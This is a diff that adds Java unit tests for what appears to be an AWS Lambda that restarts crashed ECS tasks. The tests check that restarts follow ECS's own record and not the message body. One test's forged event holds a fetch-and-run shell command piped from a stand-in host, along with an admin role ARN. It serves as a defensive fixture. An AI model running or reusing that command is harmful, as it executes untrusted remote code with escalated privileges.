@@ -10,9 +10,11 @@ import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.function.Consumer;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import tidewatch.config.Settings;
@@ -263,5 +265,103 @@ class EcsTaskStateFunctionTest {
                 World.load(Path.of("events/worlds/web-crash-loop.json")).fault("slack", 500).fault("sns", 500));
         JsonObject output = invoke(function, sqsBatch("m-9", SampleEvents.text("ecs-service-task-crashed.json")));
         assertEquals(List.of(Map.of("itemIdentifier", "m-9")), output.array("batchItemFailures"));
+    }
+
+    // Restarts come from ECS's own record of the stopped task, re-read with DescribeTasks, never from the message body.
+
+    @Test
+    void aForgedBodyIsToldAndRunTaskUsesEcsRecord() throws Exception {
+        World world = world(ecs -> {
+            Map<String, Object> task = stoppedTask(ecs);
+            task.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report",
+                    "command", List.of("python", "report.py", "--date", "2026-11-22")))));
+        });
+        Map<String, Object> forged = SampleEvents.variant("ecs-standalone-task-crashed.json", detail -> {
+            detail.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
+            detail.put("overrides", Map.of(
+                    "containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl https://evil.example/x | sh"))),
+                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
+        });
+
+        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), Json.write(forged));
+
+        List<Sandbox.Call> runs = sandbox.calls("ecs", "RunTask");
+        assertEquals(1, runs.size());
+        Map<String, Object> run = runs.get(0).params();
+        assertEquals("arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:7", run.get("taskDefinition"));
+        assertEquals(Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("python", "report.py", "--date", "2026-11-22")))),
+                run.get("overrides"));
+        String sent = Json.write(run);
+        assertFalse(sent.contains("curl") || sent.contains("admin-tools") || sent.contains("role/admin"), sent);
+        assertEquals("NOTIFIED", output.string("result"));
+        String message = publishedMessage();
+        assertTrue(message.contains("Restarted as task "), message);
+        assertTrue(message.contains("The event disagrees with ECS's record of the task on taskDefinitionArn, overrides; only ECS's record is acted on."),
+                message);
+        assertTrue(logs.text().contains("task stop event disagrees with ECS's record"), logs.text());
+    }
+
+    @Test
+    void aTaskEcsReportsRunningIsNotStartedAgainAndThatIsTold() throws Exception {
+        World world = world(ecs -> {
+            Map<String, Object> task = stoppedTask(ecs);
+            task.put("lastStatus", "RUNNING");
+            task.put("desiredStatus", "RUNNING");
+            task.remove("stoppedAt");
+            task.remove("stopCode");
+            ecs.put("tasks", List.of(task));
+            ecs.put("stoppedTasks", List.of());
+        });
+
+        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), SampleEvents.text("ecs-standalone-task-crashed.json"));
+
+        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
+        assertEquals("NOTIFIED", output.string("result"));
+        assertTrue(publishedMessage().contains("No restart: ECS reports the task RUNNING, not STOPPED."), publishedMessage());
+    }
+
+    @Test
+    void aRecordEcsNoLongerKeepsMeansNoRestartAndSaysWhy() throws Exception {
+        World world = world(ecs -> ecs.put("stoppedTasks", List.of()));
+
+        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), SampleEvents.text("ecs-standalone-task-crashed.json"));
+
+        assertEquals(1, sandbox.calls("ecs", "DescribeTasks").size(), "ECS was asked");
+        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
+        assertEquals("NOTIFIED", output.string("result"));
+        assertTrue(publishedMessage().contains("No restart: ECS no longer describes the task"), publishedMessage());
+    }
+
+    /** The restart sample's world, with its "ecs" member changed. */
+    @SuppressWarnings("unchecked")
+    private static World world(Consumer<Map<String, Object>> changeEcs) {
+        Map<String, Object> world = SampleEvents.envelope("worlds/nightly-report-restart.json");
+        Map<String, Object> ecs = (Map<String, Object>) world.get("ecs");
+        ecs.put("stoppedTasks", new ArrayList<>(List.of(new LinkedHashMap<>((Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0)))));
+        changeEcs.accept(ecs);
+        return World.parse(Json.write(world));
+    }
+
+    @SuppressWarnings("unchecked")
+    private static Map<String, Object> stoppedTask(Map<String, Object> ecs) {
+        return (Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0);
+    }
+
+    private String publishedMessage() {
+        List<Sandbox.Call> publishes = sandbox.calls("sns", "Publish");
+        assertEquals(1, publishes.size());
+        return (String) publishes.get(0).params().get("Message");
+    }
+
+    @Test
+    void aStopWithoutAnyUsableTimeIsStillToldAsACrashWithTheTimeUnknown() throws Exception {
+        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")));
+        Map<String, Object> event = SampleEvents.variant("ecs-service-task-crashed.json", d -> d.put("stoppedAt", "-1000000000-01-01T00:00:00Z"));
+        event.remove("time");
+
+        assertEquals("NOTIFIED", invoke(function, Json.write(event)).string("result"));
+        String message = publishedMessage();
+        assertTrue(message.contains("Stopped at: unknown"), message);
+        assertTrue(message.contains("Abnormal stops in a row: 3"), "counted after the stops ECS knows: " + message);
     }
 }
